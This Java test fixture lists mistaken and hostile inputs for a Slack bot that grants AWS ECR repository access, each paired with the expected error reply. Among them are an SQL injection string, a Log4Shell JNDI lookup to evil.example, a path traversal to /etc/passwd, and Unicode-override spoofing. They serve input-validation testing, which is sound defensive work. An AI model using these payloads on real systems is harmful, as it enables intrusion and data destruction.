package dev.ecrbot.e2e;

import java.util.List;
import java.util.stream.Stream;

/** What people type by mistake, in haste or in bad faith, beside what the answer has to say. */
final class SillyInputs {

    /**
     * Something typed after {@code /ecr}.
     *
     * @param said a part of the answer that names the problem
     */
    record Input(String typed, String said) {
        @Override
        public String toString() {
            return typed.length() > 80 ? typed.substring(0, 80) + "…" : typed;
        }
    }

    private static final String GRANT = "grant pull payments/api ";

    private SillyInputs() {}

    static Stream<Input> all() {
        return Stream.of(commands(), repositories(), accounts(), principals(), ends(), refused())
                .flatMap(List::stream);
    }

    private static List<Input> commands() {
        return List.of(
                new Input("grnat pull payments/api sales", "Did you mean this?"),
                new Input("please", "The commands are grant, revoke"),
                new Input("<!channel>", "“@channel”"),
                new Input("<@U0APPROVER1|amir> approve this", "@amir"),
                new Input("🎉", "“🎉”"),
                new Input("'; DROP TABLE request; --", "The commands are"),
                new Input("${jndi:ldap://evil.example/a}", "The commands are"),
                new Input("z".repeat(5_000), "has 5000 characters"),
                new Input("z".repeat(3_999), "“" + "z".repeat(60) + "…”"),
                new Input("grant because I want to", "The access"),
                new Input("grant pull", "The repository is missing"),
                new Input("grant pull payments/api", "The account"),
                new Input("grant pul payments/api sales", "/ecr grant pull payments/api sales"),
                new Input("grant write payments/api sales", "/ecr grant push payments/api sales"),
                new Input("grant all payments/api sales", "“all” can't be granted"),
                new Input("grant * payments/api sales", "“*” can't be granted"),
                new Input("grant ecr:SetRepositoryPolicy payments/api sales", "isn't a kind of access"),
                new Input("grant <!here> payments/api sales", "@here"),
                new Input("grant payments/api pull sales", "/ecr grant pull payments/api sales"),
                new Input("revoke pull payments/api sales for 7d", "A revocation has no end"),
                new Input("requests every", "mine, pending"),
                new Input("help grnt", "Did you mean “grant”?"),
                new Input("extend", "that you can extend"),
                new Input("extend req-7k2m9xqa 30d", "There is no access with req-7k2m9xqa in it"),
                new Input("undo", "that can be undone"),
                new Input("undo req-7k2m9xqa for 7d", "no end of its own"),
                new Input("end", "that you can end"),
                new Input("end pull payments/api sales", "There is no access with pull, payments/api, sales in it"),
                new Input("cancel #12", "No request of yours"),
                new Input("gr\u202Ean\u200Bt pull payments/api saels", "RIGHT-TO-LEFT OVERRIDE"),
                new Input("grant\u0000pull\u0007payments/api\u001Bsaels", "U+0000, NULL"));
    }

    private static List<Input> repositories() {
        return List.of(
                new Input("status Payments/API", "Did you mean “payments/api”?"),
                new Input("login payments/*", "takes one repository"),
                new Input("status payments/**", "Did you mean “payments/*”?"),
                new Input("status /payments/*", "Did you mean “payments/*”?"),
                new Input("grant pull p? sales", "question mark"),
                new Input("grant pull * sales", "comes before it and decides on some of it"),
                new Input("status ../../etc/passwd", "can't be a repository's name"),
                new Input("status раyments/api", "can't be a repository's name"),
                new Input("status <!subteam^S0OWNERS|@owners>", "can't be a repository's name"),
                new Input("status payments/apii", "Did you mean payments/api?"),
                new Input("grant pull nowhere/here sales", "there is no such repository"),
                new Input("login nowhere/here", "there is no such repository"),
                new Input("status centrl:payments/api", "Did you mean “central”?"),
                new Input("status central/us-east-1:payments/api", "no Region “us-east-1”"),
                new Input("status 999999999999.dkr.ecr.us-west-2.amazonaws.com/payments/api", "isn't a registry here"),
                new Input("status <https://example.com/payments/api>", "web address"),
                new Input("status public.ecr.aws/nginx/nginx", "public gallery"),
                new Input("grant pull arn:aws:s3:::payments sales", "service “s3”"),
                new Input("status arn:aws-cn:ecr:us-west-2:111111111111:repository/payments/api", "in aws"));
    }

    private static List<Input> accounts() {
        return List.of(
                new Input(GRANT + "saels", "/ecr grant pull payments/api sales"),
                new Input(GRANT + "22222222222", "11 digits, not 12"),
                new Input(GRANT + "2222222222222", "13 digits, not 12"),
                new Input(GRANT + "٢٢٢٢٢٢٢٢٢٢٢٢", "There is no account"),
                new Input(GRANT + "<@U0REQUESTER|rita>", "“@rita” is somebody or something in Slack"),
                new Input(GRANT + "<!channel>", "in Slack"),
                new Input(GRANT + "&lt;account&gt;", "There is no account"),
                new Input(GRANT + "role/ci-deployer", "The account is missing before"));
    }

    private static List<Input> principals() {
        return List.of(
                new Input(GRANT + "*", "wildcard"),
                new Input(GRANT + "sales ci-*", "wildcard"),
                new Input(GRANT + "arn:aws:iam::222222222222:role/*", "wildcard"),
                new Input(GRANT + "arn:aws:iam::*:role/ci-deployer", "no account id"),
                new Input(GRANT + "AROAEXAMPLE1234567890", "most likely a deleted one"),
                new Input(GRANT + "lambda.amazonaws.com", "is a service"),
                new Input(GRANT + "sales group/admins", "not groups"),
                new Input(GRANT + "arn:aws:iam::222222222222:group/admins", "not groups"),
                new Input(GRANT + "arn:aws:iam::222222222222:saml-provider/corp", "identity provider"),
                new Input(GRANT + "arn:aws:lambda:us-west-2:222222222222:function:f:prod", "a version or an alias"),
                new Input(GRANT + "arn:aws:s3:::bucket", "service “s3”"),
                new Input(GRANT + "arn:aws-cn:iam::222222222222:role/ci", "the repository is in aws;"),
                new Input(GRANT + "arn:aws-us-gov:iam::222222222222:root", "can't cross partitions"),
                new Input(GRANT + "arn:mars:iam::222222222222:role/ci", "isn't a partition"),
                new Input(GRANT + "arn:aws:sts::222222222222:assumed-role/ci", "isn't a session"),
                new Input(GRANT + "sales arn:aws:iam::333333333333:role/ci", "isn't in account 222222222222"),
                new Input(GRANT + "sales ci!deployer", "can't be a role's name"),
                new Input(GRANT + "sales rôle", "can't be a role's name"),
                new Input(GRANT + "sales " + "r".repeat(65), "1 to 64"));
    }

    private static List<Input> ends() {
        return List.of(
                new Input(GRANT + "sales for", "no duration after “for”"),
                new Input(GRANT + "sales for 0d", "zero"),
                new Input(GRANT + "sales for -7d", "negative"),
                new Input(GRANT + "sales for 7", "“7” has no unit"),
                new Input(GRANT + "sales for 3M", "minutes or months"),
                new Input(GRANT + "sales for 99999999999999999999d", "more than 10 years"),
                new Input(GRANT + "sales for ever", "Did you mean this?"),
                new Input(GRANT + "sales for 7d for 8d", "gave the end twice"),
                new Input(GRANT + "sales until tomorrow", "sales until 20"),
                new Input(GRANT + "sales until 2026-02-30", "isn't in the calendar"),
                new Input(GRANT + "sales until 2020-01-01", "in the past"),
                new Input(GRANT + "sales until 9999-12-31", "more than 10 years"),
                new Input(GRANT + "sales because", "no reason after “because”"),
                new Input(GRANT + "sales because " + "x".repeat(301), "has 301 characters"));
    }

    /** Well written, and still not to be had. */
    private static List<Input> refused() {
        return List.of(
                new Input(GRANT + "999999999999", "No rule"),
                new Input(GRANT + "sales for 31d", "30d at most"),
                new Input("revoke pull payments/api sales", "has no pull of its own"),
                new Input("revoke all payments/api *", "has no access of its own"),
                new Input("revoke all payments/api AROAEXAMPLE1234567890", "has no access of its own"),
                new Input("extend req-00000000 for 7d", "There is no request “req-00000000”"),
                new Input("undo req-00000000 because typo", "There is no request “req-00000000”"),
                new Input("end req-00000000", "There is no request “req-00000000”"),
                new Input("cancel req-00000000", "There is no request “req-00000000”"));
    }
}
